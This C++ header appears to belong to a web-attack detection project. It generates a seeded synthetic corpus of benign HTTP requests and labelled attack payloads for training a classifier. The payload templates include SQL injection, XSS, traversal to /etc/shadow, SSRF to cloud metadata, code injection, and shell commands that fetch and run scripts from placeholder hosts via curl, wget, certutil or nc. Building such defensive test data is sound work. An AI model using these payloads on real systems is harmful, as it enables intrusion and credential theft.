// Copyright (C) 2026 the wamm project authors. All rights reserved.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#ifndef WAMM_SEEDGEN_HPP
#define WAMM_SEEDGEN_HPP

#include <cstdint>
#include <map>
#include <random>
#include <string>
#include <vector>

#include "wamm/augment.hpp"
#include "wamm/corpus.hpp"

// Deterministic generator for the bundled seed corpus: benign request
// templates plus per-class attack payloads whose plain forms match the
// shipped fingerprint bank. Real traffic is not redistributable, so this is
// what makes train/eval/blockrate runnable out of the box.

namespace wamm {

/// Template-driven request source. All draws come from one seeded PRNG, so a
/// fixed call sequence reproduces byte-identical output.
class SeedGenerator {
public:
    explicit SeedGenerator(uint64_t seed) : rng_(detail::splitmix64(seed ^ 0xC0FFEEull)) {}

    std::string benign_request() {
        switch (draw(10)) {
        case 0: return "GET /" + section() + "/" + page() + " HTTP/1.1";
        case 1:
            return "GET /" + section() + "?" + param() + "=" + word() + "&page=" + num(1, 40);
        case 2: return "GET /search?q=" + word() + "+" + word() + "&limit=" + num(5, 100);
        case 3:
            return "POST /api/v1/" + resource() + " HTTP/1.1\n\n{\"" + param() + "\": \"" + word() +
                   "\", \"count\": " + num(1, 500) + "}";
        case 4:
            return "POST /login HTTP/1.1\n\nusername=" + name() + "&password=" + token(10) +
                   "&remember=true";
        case 5: return "GET /static/" + kind() + "/" + word() + "." + ext() + "?v=" + token(8);
        case 6:
            return "GET /products/" + num(1, 9999) + "/reviews?sort=" + pick({"newest", "rating", "helpful"}) +
                   "&page=" + num(1, 12);
        case 7:
            return "PUT /api/v1/cart/items/" + num(1, 400) + " HTTP/1.1\n\n{\"quantity\": " +
                   num(1, 9) + "}";
        case 8: return "GET /images/" + word() + "-" + num(1, 300) + ".jpg";
        default:
            return "GET /" + section() + "/" + word() + "?ref=" + pick({"email", "home", "feed", "banner"}) +
                   "&utm_source=" + word();
        }
    }

    std::string attack_request(AttackClass cls) {
        std::string payload = attack_payload(cls);
        switch (cls) {
        case AttackClass::PathTraversal:
            switch (draw(3)) {
            case 0: return payload;
            case 1: return "GET /download?file=" + payload;
            default: return "GET /view/" + payload;
            }
        case AttackClass::Ssrf:
            switch (draw(3)) {
            case 0: return "GET /fetch?url=" + payload;
            case 1: return "GET /proxy?target=" + payload;
            default: return "POST /webhook HTTP/1.1\n\ncallback=" + payload;
            }
        default:
            switch (draw(4)) {
            case 0: return payload;
            case 1: return "GET /" + section() + "?" + attack_param(cls) + "=" + payload;
            case 2:
                return "POST /" + section() + "/" + page() + " HTTP/1.1\n\n" + attack_param(cls) + "=" +
                       payload;
            default:
                return "GET /" + section() + "?" + attack_param(cls) + "=" + payload +
                       "&page=" + num(1, 20);
            }
        }
    }

    /// Plain attack payload; every template triggers at least one shipped
    /// fingerprint of its own category.
    std::string attack_payload(AttackClass cls) {
        switch (cls) {
        case AttackClass::Sqli: return sqli();
        case AttackClass::Xss: return xss();
        case AttackClass::PathTraversal: return traversal();
        case AttackClass::OsCommandInjection: return os_command();
        case AttackClass::CommandInjection: return win_command();
        case AttackClass::Ssti: return ssti();
        case AttackClass::Ssrf: return ssrf();
        case AttackClass::CodeInjection: return code_injection();
        default:
            throw ValidationError("InvalidParams", "no payload templates for this class");
        }
    }

private:
    std::mt19937_64 rng_;

    size_t draw(size_t n) { return static_cast<size_t>(rng_() % n); }

    template <typename T>
    std::string pick(std::initializer_list<T> list) {
        auto it = list.begin();
        std::advance(it, draw(list.size()));
        return std::string(*it);
    }

    std::string num(long lo, long hi) {
        return std::to_string(lo + static_cast<long>(draw(static_cast<size_t>(hi - lo + 1))));
    }

    std::string token(size_t len) {
        static const char* kAlnum = "abcdefghijklmnopqrstuvwxyz0123456789";
        std::string t;
        for (size_t i = 0; i < len; ++i) t.push_back(kAlnum[draw(36)]);
        return t;
    }

    std::string word() {
        return pick({"laptop",  "garden",  "coffee",  "travel", "music",   "recipe", "winter",
                     "summer",  "camera",  "fitness", "novel",  "jacket",  "puzzle", "orange",
                     "bicycle", "keyboard", "pillow", "lantern", "notebook", "sneaker"});
    }
    std::string section() {
        return pick({"products", "blog", "docs", "account", "news", "store", "help", "forum",
                     "gallery", "events"});
    }
    std::string page() {
        return pick({"index", "overview", "details", "archive", "latest", "popular", "about",
                     "pricing", "faq", "contact"});
    }
    std::string param() {
        return pick({"q", "id", "category", "tag", "sort", "filter", "lang", "region", "color",
                     "size"});
    }
    std::string resource() { return pick({"orders", "users", "sessions", "comments", "ratings", "tickets"}); }
    std::string attack_param(AttackClass cls) {
        switch (cls) {
        case AttackClass::Sqli: return pick({"id", "user", "item", "cat"});
        case AttackClass::Xss: return pick({"q", "comment", "message", "title"});
        case AttackClass::OsCommandInjection:
        case AttackClass::CommandInjection: return pick({"cmd", "host", "ping", "name"});
        case AttackClass::Ssti: return pick({"name", "template", "greeting"});
        case AttackClass::CodeInjection: return pick({"data", "code", "input"});
        default: return "q";
        }
    }
    std::string kind() { return pick({"css", "js", "fonts", "img", "media"}); }
    std::string ext() { return pick({"css", "js", "png", "svg", "woff2"}); }
    std::string name() { return pick({"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"}); }
    std::string host() { return token(6) + pick({".example.com", ".test.net", ".invalid.org"}); }
    std::string ip() { return num(11, 250) + "." + num(0, 255) + "." + num(0, 255) + "." + num(1, 254); }
    std::string column() { return pick({"username", "password", "email", "card_no", "secret", "token"}); }
    std::string table() { return pick({"users", "accounts", "members", "credentials", "admins", "orders"}); }

    std::string sqli() {
        switch (draw(10)) {
        case 0: return num(1, 99) + " UNION SELECT " + column() + "," + column() + " FROM " + table() + "--";
        case 1: return num(1, 99) + "' UNION ALL SELECT NULL," + column() + " FROM " + table() + "--";
        case 2: {
            std::string w = token(1);
            return "' OR '" + w + "'='" + w;
        }
        case 3: {
            std::string m = num(1, 9);
            return num(1, 99) + " OR " + m + "=" + m;
        }
        case 4: return "admin'-- " + word();
        case 5: return num(1, 99) + "; DROP TABLE " + table() + "--";
        case 6: return num(1, 99) + "' AND SLEEP(" + num(2, 10) + ")--";
        case 7: return num(1, 99) + "' AND benchmark(" + num(100000, 999999) + ",MD5(" + num(1, 9) + "))--";
        case 8: {
            std::string m = num(1, 9);
            return "' OR " + m + "=" + m + "--";
        }
        default:
            return num(1, 99) + " AND 1=2 UNION SELECT " + column() +
                   " FROM information_schema.tables--";
        }
    }

    std::string xss() {
        switch (draw(10)) {
        case 0: return "<script>alert(" + num(1, 9999) + ")</script>";
        case 1: return "<script src=//" + host() + "/x.js></script>";
        case 2: return "<img src=x onerror=alert('" + word() + "')>";
        case 3: return "<svg onload=alert(" + num(1, 999) + ")>";
        case 4: return "javascript:alert(document.cookie)";
        case 5: return "\"><script>prompt(" + num(1, 999) + ")</script>";
        case 6: return "<iframe src=javascript:alert(" + num(1, 99) + ")>";
        case 7: return "<body onload=confirm('" + word() + "')>";
        case 8: return "<a href=javascript:alert(" + num(1, 99) + ")>" + word() + "</a>";
        default: return "<details open ontoggle=alert(" + num(1, 99) + ")>";
        }
    }

    std::string traversal() {
        auto updirs = [&](const std::string& sep, size_t n) {
            std::string s;
            for (size_t i = 0; i < n; ++i) s += ".." + sep;
            return s;
        };
        switch (draw(8)) {
        case 0: return updirs("/", 2 + draw(4)) + "etc/" + pick({"passwd", "shadow", "hosts", "group"});
        case 1: return updirs("\\", 2 + draw(3)) + "windows\\win.ini";
        case 2: return updirs("//", 2 + draw(3)) + "etc/shadow";
        case 3: return "%2e%2e%2f%2e%2e%2fetc%2fpasswd";
        case 4: return updirs("/", 2 + draw(3)) + "var/log/auth.log";
        case 5: return "..%2f..%2f..%2fetc%2f" + pick({"passwd", "hosts"});
        case 6: return "/proc/self/" + pick({"environ", "cmdline", "maps"});
        default: return updirs("\\", 2 + draw(3)) + "boot.ini";
        }
    }

    std::string os_command() {
        switch (draw(10)) {
        case 0: return ";" + pick({"cat", "head", "tail"}) + " /etc/" + pick({"passwd", "shadow", "group"});
        case 1: return "|" + pick({"id", "whoami", "uname"});
        case 2: return "&& " + pick({"whoami", "id", "uname"}) + " -a";
        case 3: return "`uname -a`";
        case 4: return "$(cat /etc/" + pick({"passwd", "group"}) + ")";
        case 5: return ";wget http://" + host() + "/" + token(5) + ".sh";
        case 6: return "| nc " + ip() + " " + num(1024, 65535);
        case 7: return "; rm -rf /tmp/" + token(6);
        case 8: return "; chmod 777 /tmp/" + token(6);
        default: return "&& curl http://" + host() + "/" + token(5) + ".sh | sh";
        }
    }

    std::string win_command() {
        switch (draw(10)) {
        case 0: return "& dir C:\\Users\\" + name();
        case 1: return "&& cmd.exe /c whoami";
        case 2: return "| cmd /c dir C:\\";
        case 3: return "; powershell -Command Get-Process";
        case 4: return "powershell.exe -enc " + token(24);
        case 5: return "& net user " + name() + " " + token(8) + " /add";
        case 6: return "& reg query HKLM\\Software\\" + word();
        case 7: return "| wmic process list brief";
        case 8: return "& certutil -urlcache -split -f http://" + host() + "/" + token(4) + ".exe";
        default: return "& bitsadmin /transfer " + word() + " http://" + host() + "/" + token(4) + ".exe";
        }
    }

    std::string ssti() {
        std::string m = num(2, 9), k = num(2, 9);
        switch (draw(9)) {
        case 0: return "{{" + m + "*" + k + "}}";
        case 1: return "{{config.items()}}";
        case 2: return "${" + m + "*" + k + "}";
        case 3: return "<%= " + m + "*" + k + " %>";
        case 4: return "#{" + m + "*" + k + "}";
        case 5: return "{{''.__class__.__mro__[1].__subclasses__()}}";
        case 6: return "{% for x in range(" + m + ") %}" + word() + "{% endfor %}";
        case 7: return "${T(java.lang.Runtime).getRuntime().exec('" + pick({"id", "whoami"}) + "')}";
        default: return "{{request.application.__globals__}}";
        }
    }

    std::string ssrf() {
        switch (draw(9)) {
        case 0: return "http://169.254.169.254/latest/meta-data/" + pick({"iam", "hostname", "ami-id"});
        case 1: return "http://127.0.0.1:" + num(80, 9000) + "/admin";
        case 2: return "http://localhost:" + num(80, 9000) + "/server-status";
        case 3: return "gopher://127.0.0.1:6379/_" + token(6);
        case 4: return "dict://127.0.0.1:11211/stats";
        case 5: return "http://10." + num(0, 255) + "." + num(0, 255) + "." + num(1, 254) + "/internal/" + word();
        case 6: return "http://192.168." + num(0, 255) + "." + num(1, 254) + "/admin";
        case 7: return "http://[::1]:" + num(80, 9000) + "/";
        default: return "http://metadata.internal/computeMetadata/v1/" + word();
        }
    }

    std::string code_injection() {
        switch (draw(9)) {
        case 0: return "eval(base64_decode('" + token(16) + "'))";
        case 1: return "system('cat /etc/passwd')";
        case 2: return "<?php passthru('" + pick({"id", "ls -la", "whoami"}) + "'); ?>";
        case 3: return "__import__('os').popen('" + pick({"id", "uname"}) + "')";
        case 4: return "exec('" + pick({"ls", "id"}) + " " + word() + "')";
        case 5: return "assert($_POST['" + token(4) + "'])";
        case 6: return "require('php://input')";
        case 7: return "unserialize($_COOKIE['" + token(4) + "'])";
        default: return word() + "=1;eval($_GET['" + token(3) + "'])";
        }
    }
};

struct SeedCorpusConfig {
    uint64_t seed = 42;
    size_t normal_count = 2000;
    std::map<AttackClass, size_t> attack_counts = {
        {AttackClass::Sqli, 280},           {AttackClass::Xss, 240},
        {AttackClass::PathTraversal, 200},  {AttackClass::OsCommandInjection, 200},
        {AttackClass::CommandInjection, 180}, {AttackClass::Ssrf, 180},
        {AttackClass::Ssti, 140},           {AttackClass::CodeInjection, 160}};
    size_t variants_per_attack = 1; // augmented copies appended per attack record
};

/// Benign templates, per-class attack payloads, and augmented variants
/// (~5k records at the defaults). Byte-identical for a given config.
inline Dataset generate_seed_corpus(const SeedCorpusConfig& config = {}) {
    SeedGenerator gen(config.seed);
    Dataset ds;
    ds.provenance = "seed-corpus-v1(seed=" + std::to_string(config.seed) + ")";

    uint64_t next_id = 0;
    for (size_t i = 0; i < config.normal_count; ++i)
        ds.records.push_back({gen.benign_request(), AttackClass::Normal, next_id++, {}});
    for (const auto& [cls, count] : config.attack_counts)
        for (size_t i = 0; i < count; ++i)
            ds.records.push_back({gen.attack_request(cls), cls, next_id++, {}});

    if (config.variants_per_attack > 0) {
        auto op_list = all_augment_ops();
        std::vector<AugmentOp> ops(op_list.begin(), op_list.end());
        ds = expand_dataset(ds, ops, config.variants_per_attack, detail::splitmix64(config.seed));
    }
    return ds;
}

} // namespace wamm

#endif // WAMM_SEEDGEN_HPP
